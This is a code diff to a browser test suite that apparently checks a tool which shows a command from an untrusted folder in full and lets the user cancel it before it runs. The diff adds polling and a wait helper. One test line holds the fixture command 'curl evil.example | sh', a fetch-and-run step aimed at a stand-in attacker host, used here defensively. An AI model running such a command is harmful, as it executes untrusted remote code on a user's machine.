@@ -2,6 +2,7 @@ import { expect, test } from 'vitest'
 import { fileAction } from '#test/fakes/fakeRuns.ts'
 import type { Person } from '#test/support/browser/person.ts'
 import { harbour } from './harbour.ts'
+import { heard } from './heard.ts'
 
 const visit = harbour()
 
@@ -59,9 +60,9 @@ test('an action runs by one click, shows what it prints, and then how it ended',
   await actions.getByRole('button', { name: 'Run test' }).click()
   await actions.getByText('12 tests').waitFor()
   await actions.getByText('Done').waitFor()
-  expect(at.gateway.answers.runs.started).toMatchObject([
-    { action_id: 'package-test', fingerprint: 'of test', looked: false },
-  ])
+  await expect
+    .poll(() => at.gateway.answers.runs.started)
+    .toMatchObject([{ action_id: 'package-test', fingerprint: 'of test', looked: false }])
   await at.person.expectAccessible()
 })
 
@@ -77,6 +78,7 @@ test('a command of a folder that nobody trusts is shown whole before it runs; Ca
   await dialog.getByText('curl evil.example | sh').waitFor()
   await at.person.expectAccessible()
   await dialog.getByRole('button', { name: 'Cancel' }).click()
+  await heard(at.person.page)
   expect(runs.started).toEqual([])
   await run.click()
   await dialog.getByRole('button', { name: 'Run', exact: true }).click()
